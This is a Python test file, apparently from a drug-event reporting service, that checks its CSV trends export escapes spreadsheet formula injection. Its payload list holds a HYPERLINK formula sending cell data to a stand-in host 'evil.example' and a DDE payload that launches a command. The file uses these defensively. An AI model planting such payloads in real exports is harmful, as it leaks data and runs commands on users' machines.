"""CSV injection: no cell of an exported CSV begins with what a spreadsheet would run."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.api.csv_safety import FORMULA_STARTS, formula_safe
from services.store import EventRow
from tests.api.helpers import BIRMINGHAM, COVENTRY
from tests.hostile.conftest import Api
from tests.hostile.strategies import cases

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]
_ids = itertools.count(1)


def _events(api: Api, substance: str, klass: str, area: str, how_many: int) -> None:
    monday = dt.date(2025, 3, 3)
    with api.system.store.session() as session:
        for _ in range(how_many):
            n = next(_ids)
            session.add(EventRow(
                event_id=f"csv-ev-{n}", report_key=f"forensic/lab-a/csv-{n}", source="forensic",
                area_code=area, date=monday, substance_key=None, substance_class=klass,
                payload={"setting": "prison", "substance_name": substance}))


@pytest.mark.parametrize("dimension", ["substance", "class"])
def test_exported_trends_never_start_a_cell_with_a_formula(api: Api, dimension: str) -> None:
    for payload in PAYLOADS:
        _events(api, substance=payload, klass=payload, area=BIRMINGHAM, how_many=6)
        _events(api, substance=payload, klass=payload, area=COVENTRY, how_many=6)
    answer = api.client.get("/v1/trends.csv", params={"rows": dimension, "cols": "area"},
                            headers=api.headers("intelligence"))
    assert answer.status_code == 200, answer.text
    cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for payload in PAYLOADS:  # shown, as text, not dropped
        assert "'" + payload in cells


@cases(300)
@given(text=st.text(max_size=20) | st.sampled_from(PAYLOADS).flatmap(
    lambda p: st.text(max_size=5).map(lambda tail: p + tail)))
def test_a_safe_cell_keeps_its_text_and_cannot_start_a_formula(text: str) -> None:
    cell = formula_safe(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)
